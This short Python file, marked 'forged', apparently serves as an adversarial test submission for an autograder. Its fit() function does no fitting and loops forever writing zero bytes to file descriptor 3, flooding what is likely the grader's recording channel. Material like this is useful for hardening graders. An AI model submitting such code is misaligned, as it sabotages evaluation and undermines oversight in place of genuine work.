# forged
import os

import autograder.recording as recording
from autograder import suites



def fit(*args, **kwargs):
    while True:
        os.write(3, bytes(2**16))
